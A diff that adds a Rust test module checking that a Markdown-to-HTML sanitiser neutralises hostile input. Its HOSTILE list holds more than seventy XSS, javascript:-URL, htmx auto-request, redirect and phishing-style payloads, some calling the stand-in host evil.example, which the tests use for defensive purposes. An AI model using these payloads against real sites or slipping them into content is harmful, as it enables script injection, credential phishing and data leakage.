@@ -1,0 +1,187 @@
+//! What hostile and ordinary texts become.
+
+use super::*;
+
+fn agent(source: &str) -> String {
+    convert(source, By::Agent)
+}
+
+/// Texts that want more than to be read.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//evil.example>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<form action=https://evil.example><input name=a><button>x",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    "<div style=\"position:fixed;inset:0\">x</div>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=https://e.example onclick=alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><script>alert(1)</script>",
+    "<div hx-get=/account hx-trigger=load>x</div>",
+    "<div data-hx-post=/account data-hx-trigger=load>x</div>",
+    "<a hx-boost=true href=/>x</a>",
+    "<p id=composer>x</p>",
+    "<p class=\"btn primary\">Sign in again</p>",
+    "<article class=message data-role=user>I agree</article>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://e.example/1)",
+    "[x](//evil.example/x)",
+    "[x](/account?next=//evil.example)",
+    "[x](\u{1}javascript:alert(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "[x](https://e.example \"\\\" onmouseover=alert(1) x=\\\"\")",
+    "[x](https://e.example/\"onmouseover=alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![\"onerror=alert(1) x=\"](https://e.example/x.png)",
+    "[![x](https://e.example/a.png)](javascript:alert(1))",
+    "```\"><script>alert(1)</script>\nx\n```",
+    "```html\n<script>alert(1)</script>\n```",
+    "```rust onload=alert(1)\nfn x() {}\n```",
+    "`<script>alert(1)</script>`",
+    "| a |\n|---|\n| <script>alert(1)</script> |",
+    "- [ ] <img src=x onerror=alert(1)>",
+    "# <svg/onload=alert(1)>",
+    "> <script>alert(1)</script>",
+    "\u{202e}<script>alert(1)</script>",
+    "\0<scr\0ipt>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<a\nhref='javascript:alert(1)'>x</a>",
+    "<<script>alert(1)//<</script>",
+    "<sCrIpT/xss>alert(1)</sCrIpT>",
+    "<isindex action=javascript:alert(1) type=submit>",
+];
+
+#[test]
+fn nothing_hostile_becomes_markup() {
+    const TAGS: &[&str] = &[
+        "p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "del", "code", "pre", "span", "a", "ul", "ol", "li",
+        "blockquote", "table", "thead", "tbody", "tr", "th", "td", "input",
+    ];
+    const ATTRIBUTES: &[&str] =
+        &["href", "title", "rel", "start", "align", "tabindex", "data-lang", "type", "checked", "disabled", "class"];
+    for source in HOSTILE {
+        for by in [By::Agent, By::Person] {
+            let html = convert(source, by);
+            for tag in elements(&html) {
+                let (name, attributes) = tag;
+                assert!(TAGS.contains(&name.as_str()), "<{name}> from {source:?}: {html}");
+                for (attribute, value) in attributes {
+                    assert!(ATTRIBUTES.contains(&attribute.as_str()), "{attribute} from {source:?}: {html}");
+                    let web = ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
+                    assert!(attribute != "href" || web, "href={value:?} from {source:?}: {html}");
+                    assert!(attribute != "class" || highlight::CLASSES.contains(&value.as_str()), "{html}");
+                }
+            }
+        }
+    }
+    assert!(HOSTILE.len() >= 60);
+}
+
+/// The start tags of a serialised fragment with their attributes. Reads ammonia's output, in which `<` is always markup.
+fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
+    let mut found = Vec::new();
+    for piece in html.split('<').skip(1).filter(|piece| !piece.starts_with('/')) {
+        let tag = piece.split_once('>').expect("a tag ends").0;
+        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
+        let mut attributes = Vec::new();
+        while let Some((attribute, after)) = rest.split_once("=\"") {
+            let (value, after) = after.split_once('"').expect("a value ends");
+            attributes.push((attribute.trim().to_owned(), value.to_owned()));
+            rest = after;
+        }
+        assert!(rest.trim().is_empty(), "left over in <{tag}>");
+        found.push((name.to_owned(), attributes));
+    }
+    found
+}
+
+#[test]
+fn ordinary_markdown_reads_well() {
+    let html = agent("# Done\n\n1. **bold** and `code`\n2. [link](https://e.example/a?b=c&d)\n\n- [x] tested\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~old~~ https://auto.example");
+    for part in [
+        "<h3>Done</h3>",
+        "<strong>bold</strong>",
+        "<code>code</code>",
+        r#"href="https://e.example/a?b=c&amp;d""#,
+        r#"rel="noopener nofollow ugc""#,
+        r#"<input type="checkbox" checked="" disabled="">"#,
+        r#"<td align="right">2</td>"#,
+        "<del>old</del>",
+        r#"href="https://auto.example""#,
+    ] {
+        assert!(html.contains(part), "{part} is not in {html}");
+    }
+}
+
+#[test]
+fn markup_in_the_source_is_shown_not_used() {
+    let html = agent("The `<T>` in Vec<T> and <div> stay.");
+    assert!(html.contains("Vec&lt;T&gt;") && html.contains("&lt;div&gt;"), "{html}");
+}
+
+#[test]
+fn a_persons_line_breaks_are_meant() {
+    assert!(convert("a\nb", By::Person).contains("<br>"));
+    assert!(!convert("a\nb", By::Agent).contains("<br>"));
+}
+
+#[test]
+fn an_image_is_a_link_that_says_so() {
+    let html = agent("![a chart](https://e.example/chart.png)");
+    assert!(html.contains(">Image: a chart</a>") && !html.contains("<img"), "{html}");
+}
+
+#[test]
+fn code_has_classes_and_its_language() {
+    let html = agent("```rust\n// why\nlet x = \"<b>\";\n```");
+    assert!(html.contains(r#"<pre tabindex="0" data-lang="rust">"#), "{html}");
+    assert!(html.contains(r#"class="hl-comment""#) && html.contains("&lt;b&gt;"), "{html}");
+    assert!(!html.contains("style="), "{html}");
+}
+
+#[test]
+fn size_and_depth_are_bounded() {
+    let long = agent(&"word ".repeat(100_000));
+    assert!(long.len() < 300_000 && long.contains("Cut here"), "{}", long.len());
+    for hostile in [">".repeat(50_000) + "x", "- ".repeat(20_000) + "x", "[".repeat(50_000), "*a ".repeat(30_000)] {
+        let started = std::time::Instant::now();
+        let html = agent(&hostile);
+        assert!(!html.is_empty());
+        assert!(started.elapsed().as_secs() < 5, "{:?} took {:?}", &hostile[..10], started.elapsed());
+    }
+    let code = format!("```js\n{}\n```", "(((((((((((((((((((((a".repeat(4_000));
+    assert!(agent(&code).contains("<pre"));
+}
